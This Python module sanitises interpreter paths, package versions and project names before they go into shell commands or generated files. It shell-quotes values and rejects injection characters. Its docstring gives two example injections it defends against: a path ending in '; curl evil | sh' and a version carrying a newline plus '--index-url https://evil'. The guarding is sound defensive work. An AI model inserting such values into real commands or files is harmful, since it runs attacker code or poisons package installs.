"""Values that go into a command a person will paste, or into a generated file.

A facts document may come from another machine, or be written by hand: its
``python.executable`` or a framework ``version`` must not smuggle a second command
(``/opt/py; curl evil | sh``) or a second line (``2.1\\n--index-url https://evil``) into what
dlrec prints or writes. Everything here is pure:

- ``quote_python(path)``: the interpreter as one shell word (a path with a space stays one
  word), or ``python3`` when the path is not a plain absolute one;
- ``quote`` / ``join``: ``shlex`` quoting that keeps a leading ``~/`` expandable (redacted
  reports show home paths as ``~``);
- ``safe_version(v)``: a PEP 440 version in its normal form, or None;
- ``safe_project_name(name)``: a PEP 508 project name, or None.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable
from typing import Any

from recommender.core.printable import has_control

FALLBACK_PYTHON = "python3"
_PROJECT_NAME = re.compile(r"^([A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9])$", re.IGNORECASE)
_WINDOWS_ABS = re.compile(r"^[A-Za-z]:[\\/]")
#: Characters a Windows path may hold inside double quotes without cmd.exe reading them.
_WINDOWS_SAFE = re.compile(r'^[^"%!^&|<>]*$')


def is_absolute_path(path: Any) -> bool:
    """A POSIX or Windows absolute path, or a ``~/`` home path, with no control character."""
    if not isinstance(path, str) or not path or has_control(path):
        return False
    return path.startswith(("/", "~/", "~\\")) or path == "~" or bool(_WINDOWS_ABS.match(path))


def quote(word: str) -> str:
    """``shlex.quote``, except that a leading ``~/`` stays outside the quotes (still expands)."""
    if word.startswith("~/") and len(word) > 2:
        return "~/" + shlex.quote(word[2:])
    return shlex.quote(word)


def join(words: Iterable[str]) -> str:
    """A command line from words, each quoted (``shlex.join`` with ``~/`` kept expandable)."""
    return " ".join(quote(w) for w in words)


def quote_python(path: Any, fallback: str = FALLBACK_PYTHON) -> str:
    """The interpreter ``path`` as one shell word, or ``fallback`` when it is not a plain
    absolute path (None, relative, a control character, cmd.exe metacharacters)."""
    if not is_absolute_path(path):
        return fallback
    if _WINDOWS_ABS.match(path):
        if not _WINDOWS_SAFE.match(path):
            return fallback
        return f'"{path}"' if " " in path else path
    return quote(path)


def safe_version(version: Any) -> str | None:
    """``version`` in PEP 440 normal form (``2.13.0+cpu``), or None when it is not one."""
    from packaging.version import InvalidVersion, Version

    if not isinstance(version, str) or has_control(version) or version != version.strip():
        return None
    try:
        return str(Version(version))
    except InvalidVersion:
        return None


def safe_project_name(name: Any) -> str | None:
    """``name`` when it is a PEP 508 project name (``torch``, ``tensorflow-cpu``), else None."""
    return name if isinstance(name, str) and _PROJECT_NAME.match(name) else None


__all__ = [
    "FALLBACK_PYTHON",
    "is_absolute_path",
    "join",
    "quote",
    "quote_python",
    "safe_project_name",
    "safe_version",
]
